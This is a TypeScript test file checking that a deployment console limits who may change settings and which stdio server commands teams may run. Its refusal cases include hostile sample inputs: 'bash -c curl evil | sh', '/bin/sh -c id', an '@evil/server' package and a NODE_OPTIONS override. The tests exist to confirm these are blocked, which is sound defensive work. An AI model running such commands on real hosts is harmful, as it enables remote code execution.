import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { JOB_NAMES, redisKeys } from "@switchboard/core/contracts";
import { describeSandboxEnforcement } from "@switchboard/core/sandbox";
import { disconnectDb, getDb } from "@switchboard/db/client";
import { seedTemplate } from "@switchboard/db/seed/catalogue";
import { makeUser } from "@switchboard/db/testing";
import { env } from "@switchboard/runtime/env";
import { closeJobs } from "@switchboard/runtime/jobs";
import { redis } from "@switchboard/runtime/redis";
import { signedInCaller } from "./support/caller";
import { queuedJobs, teamWithMember } from "./support/console";

// The deployment has its owner already: the accounts these tests sign up are not the first one.
beforeAll(async () => {
  await makeUser(getDb(), { deploymentOwner: true });
});

afterAll(async () => {
  await closeJobs();
  await disconnectDb();
});

const suffix = () => Math.random().toString(36).slice(2, 8);

/** A signed-up account made deployment owner (as the first account of a deployment is). */
async function deploymentOwner() {
  const owner = await signedInCaller("owner");
  await getDb().user.update({ where: { id: owner.userId }, data: { deploymentOwner: true } });
  return owner;
}

const stdio = (slug: string, command: string, args: string[] = [], fields: Array<Record<string, unknown>> = []) => ({
  slug,
  name: "Stdio server",
  transport: "stdio" as const,
  command,
  args,
  fields: fields as never,
});

describe("deployment settings router", () => {
  it("answers NOT_FOUND to accounts that are not deployment owners, team owners included", async () => {
    const { admin } = await teamWithMember();
    expect(await admin.caller.deployment.access()).toEqual({ deploymentOwner: false });
    await expect(admin.caller.deployment.settings()).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(admin.caller.deployment.teams({})).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(
      admin.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name: "sh" } }),
    ).rejects.toMatchObject({ code: "NOT_FOUND" });
    const teams = await admin.caller.team.list();
    await expect(admin.caller.deployment.setTeamStdio({ teamId: teams[0]!.id, allowed: true })).rejects.toMatchObject({
      code: "NOT_FOUND",
    });
    await expect(admin.caller.deployment.setSignupMode({ mode: "open" })).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("shows a deployment owner the settings, with the sign-up mode the operator fixed and no secret", async () => {
    const owner = await deploymentOwner();
    expect(await owner.caller.deployment.access()).toEqual({ deploymentOwner: true });
    const settings = await owner.caller.deployment.settings();
    // The test environment sets SIGNUP_MODE=open, as an operator would: it wins and the console cannot change it.
    expect(settings).toMatchObject({
      signupMode: "open",
      signupModeFixedByOperator: true,
      operator: { signupMode: "open", sandbox: null },
    });
    expect(JSON.stringify(settings)).not.toContain(process.env.BETTER_AUTH_SECRET!);
    await expect(owner.caller.deployment.setSignupMode({ mode: "invite_only" })).rejects.toMatchObject({
      code: "CONFLICT",
      message: expect.stringMatching(/SIGNUP_MODE/),
    });
  });

  it("states what the stdio sandbox enforces on this host, as the worker reported it", async () => {
    const owner = await deploymentOwner();
    const enforcement = describeSandboxEnforcement({
      cgroup: { version: "v1" },
      diskQuota: { reason: "this worker is not root." },
      seccomp: { profile: "/usr/share/containers/seccomp.json" },
    });
    const key = redisKeys.sandboxStatus(env().REDIS_PREFIX);
    await redis().set(
      key,
      JSON.stringify({
        mode: "on",
        available: true,
        outbound: true,
        enforcement,
        reportedAt: new Date().toISOString(),
      }),
    );
    try {
      const { sandbox } = (await owner.caller.deployment.settings()).operator;
      expect(sandbox?.state).toBe("on");
      expect(sandbox?.detail).toContain(enforcement.memory.detail);
      expect(sandbox?.detail).toContain("Only each file is held to the disk quota");
    } finally {
      await redis().del(key);
    }
  });

  it("keeps a command allow-list: adds, refuses duplicates and launchers as programs, removes", async () => {
    const owner = await deploymentOwner();
    const name = `server-${suffix()}`;
    const added = await owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } });
    expect(added.allowList).toContainEqual({ entry: { kind: "executable", name }, label: name });
    await expect(
      owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } }),
    ).rejects.toMatchObject({ code: "CONFLICT" });
    await expect(
      owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name: "npx" } }),
    ).rejects.toMatchObject({
      code: "BAD_REQUEST",
      message: expect.stringMatching(/launcher would run any package/),
    });
    const pkg = { kind: "package" as const, launcher: "npx" as const, name: `@acme/mcp-${suffix()}` };
    expect((await owner.caller.deployment.addAllowedCommand({ entry: pkg })).allowList.map((e) => e.label)).toContain(
      `npx ${pkg.name}`,
    );
    const removed = await owner.caller.deployment.removeAllowedCommand({ entry: { kind: "executable", name } });
    expect(removed.allowList.map((e) => e.label)).not.toContain(name);
    await expect(
      owner.caller.deployment.removeAllowedCommand({ entry: { kind: "executable", name } }),
    ).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("lists every team with its stdio permission and lets the owner toggle it", async () => {
    const owner = await deploymentOwner();
    const { team } = await teamWithMember();
    const all = [];
    let cursor: string | null = null;
    do {
      const page: Awaited<ReturnType<typeof owner.caller.deployment.teams>> = await owner.caller.deployment.teams({
        cursor,
        limit: 100,
      });
      all.push(...page.items);
      cursor = page.nextCursor;
    } while (cursor);
    expect(all.find((t) => t.id === team.id)).toMatchObject({
      slug: team.slug,
      stdioAllowed: false,
      memberCount: 2,
      stdioInstallationCount: 0,
    });
    expect(await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: true })).toEqual({
      teamId: team.id,
      stdioAllowed: true,
    });
    expect((await getDb().team.findUniqueOrThrow({ where: { id: team.id } })).stdioAllowed).toBe(true);
    await expect(owner.caller.deployment.setTeamStdio({ teamId: "team_missing", allowed: true })).rejects.toMatchObject(
      { code: "NOT_FOUND" },
    );
  });
});

describe("deployment owners", () => {
  it("lets an owner make another account an owner, and that owner take the role back from the first", async () => {
    const first = await deploymentOwner();
    const other = await signedInCaller("colleague");
    await expect(other.caller.deployment.owners()).rejects.toMatchObject({ code: "NOT_FOUND" });
    const owners = await first.caller.deployment.addOwner({ email: other.email.toUpperCase() });
    expect(owners.map((o) => o.email)).toEqual(expect.arrayContaining([first.email, other.email]));
    expect(await other.caller.deployment.access()).toEqual({ deploymentOwner: true });

    const after = await other.caller.deployment.removeOwner({ userId: first.userId });
    expect(after.map((o) => o.email)).not.toContain(first.email);
    await expect(first.caller.deployment.settings()).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(other.caller.deployment.removeOwner({ userId: first.userId })).rejects.toMatchObject({
      code: "NOT_FOUND",
    });
    await expect(other.caller.deployment.addOwner({ email: "nobody-here@example.test" })).rejects.toMatchObject({
      code: "NOT_FOUND",
      message: "There is no account for nobody-here@example.test; they need to sign up first.",
    });
  });
});

describe("who may set a stdio command", () => {
  it("refuses a stdio template in a team the deployment has not allowed stdio servers, even for an allow-listed command", async () => {
    const owner = await deploymentOwner();
    const { admin, team } = await teamWithMember();
    const name = `tool-${suffix()}`;
    await owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } });
    await expect(admin.caller.catalogue.create({ teamId: team.id, template: stdio("s1", name) })).rejects.toMatchObject(
      {
        code: "FORBIDDEN",
        message: "This team may not run stdio servers; a deployment owner can allow it in the deployment settings.",
      },
    );
    // Remote servers are not concerned.
    await expect(
      admin.caller.catalogue.create({
        teamId: team.id,
        template: { slug: "remote", name: "Remote", transport: "streamable_http", url: "https://mcp.example.com/mcp" },
      }),
    ).resolves.toMatchObject({ slug: "remote" });
  });

  it("accepts allow-listed commands and refuses the others with a message saying who can add them", async () => {
    const owner = await deploymentOwner();
    const { admin, team } = await teamWithMember();
    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: true });
    const name = `tool-${suffix()}`;
    const pkg = `@acme/server-${suffix()}`;
    await owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } });
    await owner.caller.deployment.addAllowedCommand({ entry: { kind: "package", launcher: "npx", name: pkg } });

    await expect(
      admin.caller.catalogue.create({
        teamId: team.id,
        template: stdio("ok-exe", name, ["--port", "{{port}}"], [{ key: "port", tier: "team", kind: "arg" }]),
      }),
    ).resolves.toMatchObject({ command: name });
    await expect(
      admin.caller.catalogue.create({
        teamId: team.id,
        template: stdio("ok-pkg", "npx", ["-y", `${pkg}@1.2.3`, "stdio"]),
      }),
    ).resolves.toMatchObject({ command: "npx" });

    const refused: Array<[ReturnType<typeof stdio>, RegExp]> = [
      [
        stdio("bash", "bash", ["-c", "curl evil | sh"]),
        /“bash” is not on this deployment's list of allowed commands; ask a deployment owner to add it\./,
      ],
      [stdio("other-pkg", "npx", ["-y", "@evil/server"]), /“npx @evil\/server” is not on/],
      [stdio("call", "npx", ["-c", "id"]), /option “-c” is not allowed/],
      [
        stdio("from-setting", "npx", ["-y", "{{pkg}}"], [{ key: "pkg", tier: "user", kind: "arg" }]),
        /cannot come from a setting/,
      ],
      [stdio("preload", name, [], [{ key: "NODE_OPTIONS", tier: "team", kind: "env" }]), /cannot set NODE_OPTIONS/],
    ];
    for (const [template, message] of refused) {
      await expect(admin.caller.catalogue.create({ teamId: team.id, template }), template.slug).rejects.toMatchObject({
        code: "FORBIDDEN",
        message: expect.stringMatching(message),
      });
    }
    expect((await admin.caller.catalogue.list({ teamId: team.id })).items.map((t) => t.slug).sort()).toEqual([
      "ok-exe",
      "ok-pkg",
    ]);
  });

  it("checks the command again at install: a template the settings no longer allow cannot be installed", async () => {
    const owner = await deploymentOwner();
    const { admin, team } = await teamWithMember();
    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: true });
    const name = `tool-${suffix()}`;
    await owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } });
    const template = await admin.caller.catalogue.create({ teamId: team.id, template: stdio("later", name) });
    // Written before the policy existed (or straight into the database): the installation is still checked.
    const legacy = await seedTemplate(getDb(), {
      teamId: team.id,
      slug: "legacy",
      name: "Legacy",
      transport: "stdio",
      command: "/bin/sh",
      args: ["-c", "id"],
    });
    await expect(
      admin.caller.installation.create({
        teamId: team.id,
        templateId: legacy.id,
        slug: "legacy",
        name: "Legacy",
        values: {},
      }),
    ).rejects.toMatchObject({
      code: "FORBIDDEN",
      message: expect.stringMatching(/“\/bin\/sh” is not on/),
    });

    const installed = await admin.caller.installation.create({
      teamId: team.id,
      templateId: template.id,
      slug: "first",
      name: "First",
      values: {},
    });
    await getDb().instance.create({ data: { installationId: installed.id, userId: admin.userId, status: "online" } }); // as the worker would
    await owner.caller.deployment.removeAllowedCommand({ entry: { kind: "executable", name } });
    await expect(
      admin.caller.installation.create({
        teamId: team.id,
        templateId: template.id,
        slug: "second",
        name: "Second",
        values: {},
      }),
    ).rejects.toMatchObject({
      code: "FORBIDDEN",
      message: expect.stringMatching(/is not on this deployment's list/),
    });
    // The installation made before the removal is restarted by the worker, whose launch check then refuses it.
    expect(await queuedJobs(JOB_NAMES.configChanged)).toContainEqual({ installationId: installed.id });
  });

  it("stops a team's running stdio servers when the deployment withdraws its permission, and starts the refused ones when it gives it back", async () => {
    const owner = await deploymentOwner();
    const { admin, team } = await teamWithMember();
    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: true });
    const name = `tool-${suffix()}`;
    await owner.caller.deployment.addAllowedCommand({ entry: { kind: "executable", name } });
    const template = await admin.caller.catalogue.create({ teamId: team.id, template: stdio("srv", name) });
    const installed = await admin.caller.installation.create({
      teamId: team.id,
      templateId: template.id,
      slug: "srv",
      name: "Srv",
      values: {},
    });
    const instance = await getDb().instance.create({
      data: { installationId: installed.id, userId: admin.userId, status: "online" },
    });
    const changes = async () =>
      (await queuedJobs(JOB_NAMES.configChanged)).filter((j) => j.installationId === installed.id).length;

    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: false });
    expect(await changes()).toBe(1);
    await expect(
      admin.caller.installation.create({
        teamId: team.id,
        templateId: template.id,
        slug: "srv2",
        name: "Srv 2",
        values: {},
      }),
    ).rejects.toMatchObject({ code: "FORBIDDEN" });
    // Withdrawing again changes nothing: the instance is refused already (as the worker records it).
    await getDb().instance.update({
      where: { id: instance.id },
      data: {
        status: "error",
        statusMessage:
          "Not started: This team may not run stdio servers; a deployment owner can allow it in the deployment settings.",
      },
    });
    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: false });
    expect(await changes()).toBe(1);

    await owner.caller.deployment.setTeamStdio({ teamId: team.id, allowed: true });
    expect(await changes()).toBe(2);
  });
});
